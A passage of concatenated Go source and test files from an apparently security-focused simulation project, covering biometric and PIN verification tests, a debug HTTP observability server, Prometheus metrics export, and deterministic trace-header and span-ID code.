	tpl, err := Enroll(scans)
	if err != nil {
		t.Fatal(err)
	}
	return &Matcher{Template: tpl, Threshold: threshold}
}

func TestGenuineAcceptedImpostorRejected(t *testing.T) {
	rng := prng.NewDRBG([]byte("bio"))
	alice := NewSubject(rng)
	m := enrolledMatcher(t, rng, alice, 0.3)
	for i := 0; i < 20; i++ {
		if _, ok, err := m.Match(alice.Scan(rng, 0.1)); err != nil || !ok {
			t.Fatalf("genuine scan %d rejected (err=%v)", i, err)
		}
	}
	for i := 0; i < 20; i++ {
		mallory := NewSubject(rng)
		if _, ok, _ := m.Match(mallory.Scan(rng, 0.1)); ok {
			t.Fatalf("impostor %d accepted", i)
		}
	}
}

// TestThresholdTradeoff: raising the threshold lowers FRR and raises FAR
// — the designer's tradeoff curve.
func TestThresholdTradeoff(t *testing.T) {
	lowFAR, lowFRR, err := Rates(prng.NewDRBG([]byte("rates")), 0.15, 0.15, 400)
	if err != nil {
		t.Fatal(err)
	}
	highFAR, highFRR, err := Rates(prng.NewDRBG([]byte("rates")), 0.8, 0.15, 400)
	if err != nil {
		t.Fatal(err)
	}
	if highFAR < lowFAR {
		t.Fatalf("FAR should rise with threshold (%.3f -> %.3f)", lowFAR, highFAR)
	}
	if highFRR > lowFRR {
		t.Fatalf("FRR should fall with threshold (%.3f -> %.3f)", lowFRR, highFRR)
	}
	// A sane operating point exists.
	far, frr, err := Rates(prng.NewDRBG([]byte("op")), 0.35, 0.15, 400)
	if err != nil {
		t.Fatal(err)
	}
	if far > 0.05 || frr > 0.05 {
		t.Fatalf("operating point FAR=%.3f FRR=%.3f; both should be small", far, frr)
	}
}

func TestEnrollValidation(t *testing.T) {
	if _, err := Enroll(nil); err == nil {
		t.Error("enrolled with no scans")
	}
	if _, err := Enroll([][]float64{{1, 2}, {1}}); err == nil {
		t.Error("enrolled inconsistent dimensions")
	}
	tpl, _ := Enroll([][]float64{{1, 2, 3}})
	if _, err := tpl.Distance([]float64{1}); err == nil {
		t.Error("distance with mismatched dimensions")
	}
}

func TestRatesValidation(t *testing.T) {
	if _, _, err := Rates(prng.NewDRBG(nil), 0.3, 0.1, 0); err == nil {
		t.Error("accepted zero trials")
	}
}

func newVerifier(t *testing.T, maxRetries int) (*Verifier, *Subject, *prng.DRBG) {
	t.Helper()
	rng := prng.NewDRBG([]byte("verifier"))
	alice := NewSubject(rng)
	m := enrolledMatcher(t, rng, alice, 0.3)
	v, err := NewVerifier(m, bytes.Repeat([]byte{9}, 16), "4929", maxRetries)
	if err != nil {
		t.Fatal(err)
	}
	return v, alice, rng
}

func TestVerifierBioAndPIN(t *testing.T) {
	v, alice, rng := newVerifier(t, 3)
	ok, err := v.VerifyScan(alice.Scan(rng, 0.1))
	if err != nil || !ok {
		t.Fatalf("genuine scan failed: %v", err)
	}
	if ok, err := v.VerifyPIN("4929"); err != nil || !ok {
		t.Fatalf("correct PIN failed: %v", err)
	}
	if _, err := v.VerifyPIN("0000"); err != ErrBadPIN {
		t.Fatalf("wrong PIN: want ErrBadPIN, got %v", err)
	}
}

// TestLockoutAfterRetries: three failures lock the device; success resets
// the counter; AdminReset clears a lockout.
func TestLockoutAfterRetries(t *testing.T) {
	v, alice, rng := newVerifier(t, 3)
	v.VerifyPIN("1111") //nolint:errcheck
	v.VerifyPIN("2222") //nolint:errcheck
	if v.LockedOut() {
		t.Fatal("locked out too early")
	}
	// A success resets the budget.
	if ok, _ := v.VerifyScan(alice.Scan(rng, 0.1)); !ok {
		t.Fatal("genuine scan rejected")
	}
	v.VerifyPIN("1111") //nolint:errcheck
	v.VerifyPIN("2222") //nolint:errcheck
	v.VerifyPIN("3333") //nolint:errcheck
	if !v.LockedOut() {
		t.Fatal("not locked out after 3 consecutive failures")
	}
	if _, err := v.VerifyPIN("4929"); err != ErrLockedOut {
		t.Fatalf("locked device: want ErrLockedOut, got %v", err)
	}
	if _, err := v.VerifyScan(alice.Scan(rng, 0.1)); err != ErrLockedOut {
		t.Fatalf("locked device scan: want ErrLockedOut, got %v", err)
	}
	v.AdminReset()
	if ok, err := v.VerifyPIN("4929"); err != nil || !ok {
		t.Fatalf("PIN after reset failed: %v", err)
	}
}

func TestNewVerifierValidation(t *testing.T) {
	rng := prng.NewDRBG([]byte("v"))
	m := enrolledMatcher(t, rng, NewSubject(rng), 0.3)
	if _, err := NewVerifier(nil, bytes.Repeat([]byte{1}, 16), "1", 3); err == nil {
		t.Error("accepted nil matcher")
	}
	if _, err := NewVerifier(m, []byte("short"), "1", 3); err == nil {
		t.Error("accepted short MAC key")
	}
	v, err := NewVerifier(m, bytes.Repeat([]byte{1}, 16), "1", 0)
	if err != nil || v == nil {
		t.Fatalf("default retries rejected: %v", err)
	}
}
