package obs

import (
	"context"
	"expvar"
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"strconv"
	"strings"
	"time"

	"repro/internal/obs/journal"
)

// ServerConfig selects what the debug HTTP server exposes. Nil members
// disable their endpoints (or leave them empty).
type ServerConfig struct {
	Registry *Registry
	Tracer   *Tracer
	Journal  *journal.Journal // /events streams this journal's emissions
	Progress func() []byte    // /progress payload (see SetProgressSource)
	Alerts   func() []byte    // /alerts payload (fired SLO rules as JSON)

	// MetricsInterval is the /events metric-delta period (default 1s).
	MetricsInterval time.Duration
}

// Serve starts the opt-in debug HTTP endpoint with just metrics and
// tracing, preserving the original two-instrument signature.
func Serve(addr string, reg *Registry, tr *Tracer) (string, func() error, error) {
	return ServeConfig(addr, ServerConfig{Registry: reg, Tracer: tr})
}

// ServeConfig starts the opt-in debug HTTP endpoint on addr, exposing:
//
//	/debug/pprof/...   the standard pprof profiles
//	/debug/vars        expvar (cmdline, memstats)
//	/metrics           the registry snapshot as JSON
//	/trace             the tracer's buffered events as JSON
//	/events            SSE stream of journal events + periodic metric deltas
//	/progress          live sweep progress (completed/total, per-worker, ETA)
//	/alerts            fired SLO rules as JSON
//
// It returns the bound address (useful with ":0") and a shutdown
// function. Shutdown closes the listener and unblocks in-flight
// streaming handlers, so no goroutine outlives the returned call. The
// server runs on its own mux so importing this package never pollutes
// http.DefaultServeMux.
func ServeConfig(addr string, cfg ServerConfig) (string, func() error, error) {
	if cfg.MetricsInterval <= 0 {
		cfg.MetricsInterval = time.Second
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, fmt.Errorf("obs: pprof listen %s: %w", addr, err)
	}
	// done unblocks long-lived handlers (SSE) on shutdown; Shutdown alone
	// would wait forever for them.
	done := make(chan struct{})
	mux := http.NewServeMux()
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = cfg.Registry.WriteJSON(w)
	})
	mux.HandleFunc("/metrics.prom", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		snap := cfg.Registry.Snapshot()
		_ = WriteProm(w, &snap)
	})
	mux.HandleFunc("/trace", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = cfg.Tracer.WriteJSON(w)
	})
	mux.HandleFunc("/progress", func(w http.ResponseWriter, _ *http.Request) {
		if cfg.Progress == nil {
			http.Error(w, "no progress source registered", http.StatusNotFound)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(cfg.Progress())
	})
	mux.HandleFunc("/alerts", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if cfg.Alerts == nil {
			_, _ = w.Write([]byte("[]\n"))
			return
		}
		_, _ = w.Write(cfg.Alerts())
	})
	mux.HandleFunc("/events", sseHandler(cfg, done))
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(ln) }()
	shutdown := func() error {
		close(done)
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		return srv.Shutdown(ctx)
	}
	return ln.Addr().String(), shutdown, nil
}

// sseHandler streams journal events and periodic metric deltas as
// Server-Sent Events:
//
//	event: journal
//	data: {"t_sim":3,"level":"warn","layer":"wep","event":"icv_failure"}
//
//	event: metrics
//	data: {"counters":{"arq.retransmits":2},"gauges":{...}}
//
// Journal events arrive in live emission order (wall clock), unlike the
// deterministic (t_sim, seq) merge of the -journal file. The handler
// returns when the client disconnects or the server shuts down.
func sseHandler(cfg ServerConfig, done <-chan struct{}) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		fl, ok := w.(http.Flusher)
		if !ok {
			http.Error(w, "streaming unsupported", http.StatusInternalServerError)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		w.Header().Set("Cache-Control", "no-cache")
		w.Header().Set("Connection", "keep-alive")

		var evCh <-chan journal.Event
		if cfg.Journal != nil {
			ch, cancel := cfg.Journal.Subscribe(256)
			defer cancel()
			evCh = ch
		}
		fmt.Fprintf(w, "event: hello\ndata: {\"metric_interval_ms\":%d}\n\n",
			cfg.MetricsInterval.Milliseconds())
		fl.Flush()

		tick := time.NewTicker(cfg.MetricsInterval)
		defer tick.Stop()
		var prev Snapshot
		if cfg.Registry != nil {
			prev = cfg.Registry.Snapshot()
		}
		var buf []byte
		for {
			select {
			case <-done:
				return
			case <-r.Context().Done():
				return
			case e, ok := <-evCh: // nil when no journal: never fires
				if !ok {
					evCh = nil
					continue
				}
				buf = journal.AppendJSON(buf[:0], e)
				fmt.Fprintf(w, "event: journal\ndata: %s\n\n", buf)
				fl.Flush()
			case <-tick.C:
				if cfg.Registry == nil {
					continue
				}
				cur := cfg.Registry.Snapshot()
				if delta := metricDelta(prev, cur); delta != "" {
					fmt.Fprintf(w, "event: metrics\ndata: %s\n\n", delta)
					fl.Flush()
				}
				prev = cur
			}
		}
	}
}

// maxDeltaEntries bounds one SSE metrics payload: at most this many
// changed metrics (counters first, then gauges, each in sorted-name
// order) are rendered; the rest are summarized in a "truncated" count
// so a huge registry cannot wedge slow subscribers with megabyte
// events.
const maxDeltaEntries = 256

// metricDelta renders the counters that moved (as increments) and the
// gauges that changed (as values) between two snapshots, in snapshot
// (sorted-name) order; "" when nothing changed. Output is capped at
// maxDeltaEntries entries; when the cap bites, the payload carries a
// "truncated" field with the number of changed metrics dropped.
func metricDelta(prev, cur Snapshot) string {
	pc := make(map[string]int64, len(prev.Counters))
	for _, c := range prev.Counters {
		pc[c.Name] = c.Value
	}
	pg := make(map[string]float64, len(prev.Gauges))
	for _, g := range prev.Gauges {
		pg[g.Name] = g.Value
	}
	var cs, gs []string
	truncated := 0
	for _, c := range cur.Counters {
		if d := c.Value - pc[c.Name]; d != 0 {
			if len(cs) >= maxDeltaEntries {
				truncated++
				continue
			}
			cs = append(cs, strconv.Quote(c.Name)+":"+strconv.FormatInt(d, 10))
		}
	}
	for _, g := range cur.Gauges {
		if g.Value != pg[g.Name] {
			if len(cs)+len(gs) >= maxDeltaEntries {
				truncated++
				continue
			}
			gs = append(gs, strconv.Quote(g.Name)+":"+strconv.FormatFloat(g.Value, 'g', -1, 64))
		}
	}
	if len(cs) == 0 && len(gs) == 0 && truncated == 0 {
		return ""
	}
	out := `{"counters":{` + strings.Join(cs, ",") + `},"gauges":{` + strings.Join(gs, ",") + `}`
	if truncated > 0 {
		out += `,"truncated":` + strconv.Itoa(truncated)
	}
	return out + `}`
}
