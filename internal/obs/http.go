package obs

import (
	"context"
	"expvar"
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"time"
)

// Serve starts the opt-in debug HTTP endpoint on addr, exposing:
//
//	/debug/pprof/...   the standard pprof profiles
//	/debug/vars        expvar (cmdline, memstats)
//	/metrics           the registry snapshot as JSON
//	/trace             the tracer's buffered events as JSON
//
// It returns the bound address (useful with ":0") and a shutdown
// function. The server runs on its own mux so importing this package
// never pollutes http.DefaultServeMux.
func Serve(addr string, reg *Registry, tr *Tracer) (string, func() error, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, fmt.Errorf("obs: pprof listen %s: %w", addr, err)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = reg.WriteJSON(w)
	})
	mux.HandleFunc("/trace", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = tr.WriteJSON(w)
	})
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(ln) }()
	shutdown := func() error {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		return srv.Shutdown(ctx)
	}
	return ln.Addr().String(), shutdown, nil
}
