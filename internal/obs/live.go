package obs

import (
	"sync/atomic"
)

// progressSource is the process-wide /progress JSON provider. The sweep
// engine (internal/par) registers itself here at init, which keeps obs
// free of a par import while letting the HTTP server report per-worker
// sweep throughput.
var progressSource atomic.Value // of func() []byte

// SetProgressSource registers fn as the /progress payload provider.
// Later registrations win; nil is ignored.
func SetProgressSource(fn func() []byte) {
	if fn != nil {
		progressSource.Store(fn)
	}
}

// ProgressSource returns the registered /progress provider, or nil.
func ProgressSource() func() []byte {
	fn, _ := progressSource.Load().(func() []byte)
	return fn
}

// SeriesSink is the windowed time-series recorder interface the CLI
// drives when -series is set. internal/obs/ts registers its Default
// recorder here at init (same cycle-avoidance shape as progressSource:
// ts imports obs for Snapshot, so obs cannot import ts back).
type SeriesSink interface {
	// Arm starts recording against the registry. OnWindow (nil ok) is
	// invoked synchronously after each window is cut, with the window's
	// key (t_sim or wall ms).
	Arm(reg *Registry, onWindow func(t int64))
	// TickWall cuts a window keyed by wall-clock ms since Arm.
	TickWall()
	// WindowLookup resolves (metric, agg) over the trailing n windows;
	// ok=false when fewer than n windows exist or the metric was never
	// seen. Shaped for slo.WindowLookup.
	WindowLookup(metric, agg string, n int) (float64, bool)
	// WriteFile writes the recorded windows as JSONL.
	WriteFile(path string) error
}

var seriesSink atomic.Value // of SeriesSink

// SetSeriesSink registers the process-wide series recorder. Later
// registrations win; nil is ignored.
func SetSeriesSink(s SeriesSink) {
	if s != nil {
		seriesSink.Store(s)
	}
}

// GetSeriesSink returns the registered series recorder, or nil.
func GetSeriesSink() SeriesSink {
	s, _ := seriesSink.Load().(SeriesSink)
	return s
}

// Lookup resolves an SLO rule's (metric, aggregation) pair against the
// snapshot: counters and gauges answer the default "value" aggregation,
// histograms answer count/sum/mean. ok=false means the metric was not
// observed by this run, which skips the rule rather than firing it.
func (s *Snapshot) Lookup(metric, agg string) (float64, bool) {
	switch agg {
	case "", "value":
		for _, c := range s.Counters {
			if c.Name == metric {
				return float64(c.Value), true
			}
		}
		for _, g := range s.Gauges {
			if g.Name == metric {
				return g.Value, true
			}
		}
	case "count", "sum", "mean":
		for _, h := range s.Histograms {
			if h.Name != metric {
				continue
			}
			switch agg {
			case "count":
				return float64(h.Count), true
			case "sum":
				return float64(h.Sum), true
			case "mean":
				if h.Count == 0 {
					return 0, false
				}
				return float64(h.Sum) / float64(h.Count), true
			}
		}
	}
	return 0, false
}
