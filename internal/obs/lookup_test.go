package obs

import (
	"fmt"
	"strings"
	"testing"
)

// TestSnapshotLookupSelectors pins the aggregator-selector contract the
// SLO engine evaluates rules through: counters and gauges answer only
// the default "value" aggregation, histograms answer count/sum/mean,
// and everything else is a miss (rules skip, never fire).
func TestSnapshotLookupSelectors(t *testing.T) {
	reg := NewRegistry()
	reg.SetEnabled(true)
	reg.Counter("c").Add(5)
	reg.Gauge("g").Set(2.5)
	h := reg.Histogram("h", []int64{10, 100})
	h.Observe(4)
	h.Observe(40)
	empty := reg.Histogram("h.empty", []int64{10})
	_ = empty
	snap := reg.Snapshot()

	cases := []struct {
		metric, agg string
		want        float64
		ok          bool
	}{
		{"c", "", 5, true},
		{"c", "value", 5, true},
		{"g", "", 2.5, true},
		{"g", "value", 2.5, true},
		{"h", "count", 2, true},
		{"h", "sum", 44, true},
		{"h", "mean", 22, true},
		{"h.empty", "count", 0, true},
		{"h.empty", "mean", 0, false}, // mean of nothing: skip, not 0
		{"c", "count", 0, false},      // counter doesn't answer histogram aggs
		{"h", "", 0, false},           // histogram doesn't answer "value"
		{"absent", "", 0, false},
		{"h", "p95", 0, false}, // unknown agg is a miss
	}
	for _, c := range cases {
		got, ok := snap.Lookup(c.metric, c.agg)
		if got != c.want || ok != c.ok {
			t.Errorf("Lookup(%q, %q) = %v,%v; want %v,%v", c.metric, c.agg, got, ok, c.want, c.ok)
		}
	}
}

func TestBucketQuantile(t *testing.T) {
	bounds := []int64{10, 100, 1000}
	cases := []struct {
		counts []int64
		q      float64
		want   int64
	}{
		{[]int64{90, 10, 0, 0}, 0.50, 10},
		{[]int64{90, 10, 0, 0}, 0.95, 100},
		{[]int64{90, 10, 0, 0}, 0.99, 100},
		{[]int64{0, 0, 0, 5}, 0.50, 1000}, // overflow clamps to last bound
		{[]int64{1, 0, 0, 0}, 1.00, 10},
		{[]int64{0, 0, 0, 0}, 0.50, 0}, // empty histogram
		{[]int64{5, 0, 0, 0}, 0.0, 0},  // q out of range
		{[]int64{5, 0, 0, 0}, 1.5, 0},
	}
	for _, c := range cases {
		if got := BucketQuantile(bounds, c.counts, c.q); got != c.want {
			t.Errorf("BucketQuantile(%v, %v) = %d, want %d", c.counts, c.q, got, c.want)
		}
	}
}

// TestSnapshotQuantiles checks the derived p50/p95/p99 exported on
// HistogramValue (the msreport table columns).
func TestSnapshotQuantiles(t *testing.T) {
	reg := NewRegistry()
	reg.SetEnabled(true)
	h := reg.Histogram("h", []int64{10, 100, 1000})
	for i := 0; i < 94; i++ {
		h.Observe(5)
	}
	for i := 0; i < 5; i++ {
		h.Observe(50)
	}
	h.Observe(500)
	snap := reg.Snapshot()
	hv := snap.Histograms[0]
	if hv.P50 != 10 || hv.P95 != 100 || hv.P99 != 100 {
		t.Fatalf("quantiles = p50=%d p95=%d p99=%d, want 10/100/100", hv.P50, hv.P95, hv.P99)
	}
}

func TestMetricDeltaSortedAndCapped(t *testing.T) {
	reg := NewRegistry()
	reg.SetEnabled(true)
	prev := reg.Snapshot()
	// 300 moved counters + 60 changed gauges: over the 256-entry cap.
	for i := 0; i < 300; i++ {
		reg.Counter(fmt.Sprintf("c.%03d", i)).Add(int64(i + 1))
	}
	for i := 0; i < 60; i++ {
		reg.Gauge(fmt.Sprintf("g.%02d", i)).Set(float64(i + 1))
	}
	cur := reg.Snapshot()

	delta := metricDelta(prev, cur)
	if n := strings.Count(delta, `"c.`) + strings.Count(delta, `"g.`); n != maxDeltaEntries {
		t.Fatalf("payload has %d entries, want cap %d", n, maxDeltaEntries)
	}
	if !strings.Contains(delta, `"truncated":104`) {
		t.Fatalf("payload missing truncated count (want 360-256=104): %s", delta[len(delta)-80:])
	}
	// Entries are emitted in sorted-name order, so the payload itself is
	// deterministic: the first counter and the cap boundary are fixed.
	if !strings.Contains(delta, `"c.000":1`) {
		t.Fatalf("first sorted counter missing: %.120s", delta)
	}
	if strings.Contains(delta, `"c.299"`) {
		t.Fatal("entry past the cap leaked into the payload")
	}
	if metricDelta(cur, cur) != "" {
		t.Fatal("unchanged snapshot should render empty delta")
	}

	// Under the cap: no truncated field, gauges included.
	reg2 := NewRegistry()
	reg2.SetEnabled(true)
	p2 := reg2.Snapshot()
	reg2.Counter("b").Add(2)
	reg2.Counter("a").Add(1)
	reg2.Gauge("z").Set(9)
	c2 := reg2.Snapshot()
	got := metricDelta(p2, c2)
	want := `{"counters":{"a":1,"b":2},"gauges":{"z":9}}`
	if got != want {
		t.Fatalf("delta = %s, want %s", got, want)
	}
}
