package obs

import (
	"encoding/binary"
	"errors"
)

// Wire propagation of trace context. The client half of a session
// prepends this header to its first application record after the
// handshake, and the server strips it before echoing:
//
//	offset  size  field
//	0       4     magic "MSTC"
//	4       1     version (1)
//	5       2     body length, big-endian (16 for version 1)
//	7       8     trace ID, big-endian, nonzero
//	15      8     parent span ID, big-endian (the client span the
//	              server session should hang under; may be 0)
//
// The header rides inside the encrypted WTLS stream, so it is
// integrity-protected like any application byte; the parser is still
// strict — fixed length, version-checked, fail-closed, allocation-free
// — because the first record of a session is attacker-timed input and
// a non-traced peer's payload must never be mistaken for a header
// (ErrNoTraceHeader) nor a malformed header half-consumed
// (ErrBadTraceHeader).

const (
	traceHdrVersion = 1
	traceHdrBodyLen = 16
	// TraceHeaderLen is the exact encoded size of a trace-context
	// header: magic + version + body length + body.
	TraceHeaderLen = 4 + 1 + 2 + traceHdrBodyLen
)

// traceHdrMagic spells "MSTC" (mobile-sec trace context).
var traceHdrMagic = [4]byte{'M', 'S', 'T', 'C'}

// ErrNoTraceHeader reports that the bytes do not begin with the header
// magic: ordinary application data from an untraced peer. Callers
// forward the bytes untouched.
var ErrNoTraceHeader = errors.New("obs: no trace header")

// ErrBadTraceHeader reports bytes that begin with the header magic but
// are truncated, version-unknown, length-mismatched or carry a zero
// trace ID. Callers must fail closed: treat the record as opaque data
// and attach no trace context.
var ErrBadTraceHeader = errors.New("obs: malformed trace header")

// EncodeTraceHeader renders the trace-context header for (trace,
// parent). trace must be nonzero (the zero ID means "no trace" on the
// wire and the strict parser rejects it).
func EncodeTraceHeader(trace, parent uint64) []byte {
	b := make([]byte, TraceHeaderLen)
	copy(b, traceHdrMagic[:])
	b[4] = traceHdrVersion
	binary.BigEndian.PutUint16(b[5:7], traceHdrBodyLen)
	binary.BigEndian.PutUint64(b[7:15], trace)
	binary.BigEndian.PutUint64(b[15:23], parent)
	return b
}

// ParseTraceHeader strictly parses a trace-context header at the start
// of b, returning the IDs and the remaining application bytes. It
// allocates nothing and reads at most TraceHeaderLen bytes: oversized
// length fields are rejected, never trusted as a read size.
func ParseTraceHeader(b []byte) (trace, parent uint64, rest []byte, err error) {
	if len(b) < len(traceHdrMagic) || [4]byte(b[:4]) != traceHdrMagic {
		return 0, 0, b, ErrNoTraceHeader
	}
	if len(b) < TraceHeaderLen {
		return 0, 0, b, ErrBadTraceHeader
	}
	if b[4] != traceHdrVersion {
		return 0, 0, b, ErrBadTraceHeader
	}
	if binary.BigEndian.Uint16(b[5:7]) != traceHdrBodyLen {
		return 0, 0, b, ErrBadTraceHeader
	}
	trace = binary.BigEndian.Uint64(b[7:15])
	parent = binary.BigEndian.Uint64(b[15:23])
	if trace == 0 {
		return 0, 0, b, ErrBadTraceHeader
	}
	return trace, parent, b[TraceHeaderLen:], nil
}
