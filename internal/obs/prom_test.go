package obs

import (
	"bytes"
	"strings"
	"testing"
)

// TestWritePromGolden pins the exposition output byte-for-byte: the
// endpoint is scraped by external tooling, so format drift is a
// breaking change, not a cosmetic one.
func TestWritePromGolden(t *testing.T) {
	reg := NewRegistry()
	reg.SetEnabled(true)
	reg.Counter("load.retries").Add(7)
	reg.Counter("gateway.sessions_done").Add(3)
	reg.Gauge("gateway.active_conns").Set(2.5)
	h := reg.Histogram("load.record_rtt_ns", []int64{10, 100, 1000})
	h.Observe(5)
	h.Observe(50)
	h.Observe(50)
	h.Observe(5000) // overflow bucket

	snap := reg.Snapshot()
	var buf bytes.Buffer
	if err := WriteProm(&buf, &snap); err != nil {
		t.Fatal(err)
	}
	want := `# TYPE gateway_sessions_done counter
gateway_sessions_done 3
# TYPE load_retries counter
load_retries 7
# TYPE gateway_active_conns gauge
gateway_active_conns 2.5
# TYPE load_record_rtt_ns histogram
load_record_rtt_ns_bucket{le="10"} 1
load_record_rtt_ns_bucket{le="100"} 3
load_record_rtt_ns_bucket{le="1000"} 3
load_record_rtt_ns_bucket{le="+Inf"} 4
load_record_rtt_ns_sum 5105
load_record_rtt_ns_count 4
`
	if got := buf.String(); got != want {
		t.Fatalf("exposition drifted:\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

func TestPromRoundTrip(t *testing.T) {
	reg := NewRegistry()
	reg.SetEnabled(true)
	reg.Counter("a.count").Add(41)
	reg.Gauge("b.gauge").Set(-1.25)
	h := reg.Histogram("c.hist", []int64{1, 2})
	h.Observe(1)
	h.Observe(9)

	snap := reg.Snapshot()
	var buf bytes.Buffer
	if err := WriteProm(&buf, &snap); err != nil {
		t.Fatal(err)
	}
	fams, err := ParseProm(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(fams) != 3 {
		t.Fatalf("families = %d, want 3", len(fams))
	}
	if fams[0].Name != "a_count" || fams[0].Type != "counter" || fams[0].Samples[0].Value != 41 {
		t.Fatalf("counter family = %+v", fams[0])
	}
	if fams[1].Name != "b_gauge" || fams[1].Samples[0].Value != -1.25 {
		t.Fatalf("gauge family = %+v", fams[1])
	}
	hist := fams[2]
	if hist.Type != "histogram" || len(hist.Samples) != 5 {
		t.Fatalf("histogram family = %+v", hist)
	}
	inf := hist.Samples[2]
	if inf.Labels["le"] != "+Inf" || inf.Value != 2 {
		t.Fatalf("+Inf bucket = %+v", inf)
	}
}

func TestPromName(t *testing.T) {
	cases := map[string]string{
		"load.retries":        "load_retries",
		"fleet.energy_uj.tx":  "fleet_energy_uj_tx",
		"9lives":              "_9lives",
		"ok_name:with_colon":  "ok_name:with_colon",
		"weird-chars+here μs": "weird_chars_here__s",
	}
	for in, want := range cases {
		if got := PromName(in); got != want {
			t.Errorf("PromName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestParsePromRejectsMalformed(t *testing.T) {
	cases := []string{
		"orphan_sample 1\n",                         // sample before TYPE
		"# TYPE a counter\nb 1\n",                   // name outside family
		"# TYPE a counter\na notanumber\n",          // bad value
		"# TYPE a counter\na{le=\"unterminated 1\n", // bad label block
		"# TYPE a wat\na 1\n",                       // unknown type
	}
	for _, c := range cases {
		if _, err := ParseProm(strings.NewReader(c)); err == nil {
			t.Errorf("ParseProm accepted malformed input %q", c)
		}
	}
}
