package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// This file is the hierarchical, cross-process half of the tracing
// story (trace.go keeps the original flat ring for point events).
// Spans carry deterministic 64-bit trace/span/parent IDs derived from
// the run's seeded randomness — never from the wall clock or math/rand
// — so the ID structure of a trace is a pure function of the seed and
// is byte-diffable across worker counts. The client half of a session
// hands its (trace, span) pair to the server in the first application
// record (see tracewire.go), which is how an msload session and the
// msgateway session serving it merge into one end-to-end trace.
//
// Design constraints match the rest of the package: disarmed cost is
// one atomic load and zero allocations per span site, armed recording
// is a mutex-guarded copy into a preallocated ring slot, and exports
// sort by (trace, span) so concurrent sessions serialize identically
// regardless of goroutine interleaving.

// SpanRec is one completed span. StartUS/DurUS are microseconds on the
// recording process's tracer clock (zeroed in canonical mode, where
// only the deterministic structure is exported).
type SpanRec struct {
	Trace   uint64 // 64-bit trace ID shared by every span of a session
	Span    uint64 // this span's ID, a pure function of parent+name+ord
	Parent  uint64 // parent span ID; 0 for a root with no parent
	Ord     uint32 // child ordinal within the parent (creation order)
	Proc    string // recording process name ("msload", "msgateway", …)
	Layer   string // subsystem: load, wtls, gateway, arq, …
	Name    string // span name: session, attempt, key_exchange, …
	StartUS int64  // µs since the tracer's epoch (0 in canonical mode)
	DurUS   int64  // span duration in µs (0 in canonical mode)
	N       int64  // optional magnitude (bytes, retries, …)
}

// splitmix64 is the finalizer used for all ID mixing: cheap, stateless
// and full-period, so derived IDs are evaluation-order independent.
func splitmix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	x ^= x >> 30
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 27
	x *= 0x94D049BB133111EB
	x ^= x >> 31
	return x
}

// fnv64a hashes layer and name with a separator so ("ab","c") and
// ("a","bc") land on different IDs.
func fnv64a(layer, name string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(layer); i++ {
		h = (h ^ uint64(layer[i])) * 1099511628211
	}
	h = (h ^ 0) * 1099511628211
	for i := 0; i < len(name); i++ {
		h = (h ^ uint64(name[i])) * 1099511628211
	}
	return h
}

// nonzero maps the (astronomically unlikely) zero ID to a fixed
// constant: 0 is reserved as "no trace / no parent" on the wire.
func nonzero(id uint64) uint64 {
	if id == 0 {
		return 0x9E3779B97F4A7C15
	}
	return id
}

// TraceIDFromBytes folds DRBG output into a nonzero trace ID. Sessions
// derive their ID from their own seeded DRBG stream (8 bytes), so the
// ID is deterministic per (seed, session) and uniform across sessions.
func TraceIDFromBytes(b []byte) uint64 {
	var x uint64
	for i, c := range b {
		x ^= uint64(c) << (8 * uint(i%8))
	}
	return nonzero(splitmix64(x))
}

// TraceID derives a nonzero trace ID from a (seed, session) pair for
// callers without a DRBG at hand (simulations, tests).
func TraceID(seed, session int64) uint64 {
	return nonzero(splitmix64(uint64(seed)*0x9E3779B97F4A7C15 ^ uint64(session)))
}

// DeriveSpanID is the pure function giving every span its ID: mix the
// parent's ID (the trace ID for roots), the span's layer/name, and its
// child ordinal. Two runs that build the same tree get the same IDs.
func DeriveSpanID(parent uint64, layer, name string, ord uint32) uint64 {
	return nonzero(splitmix64(parent ^ fnv64a(layer, name) ^ (uint64(ord)+1)*0x9E3779B97F4A7C15))
}

// TraceHex renders an ID the way every artifact spells it: 16 lowercase
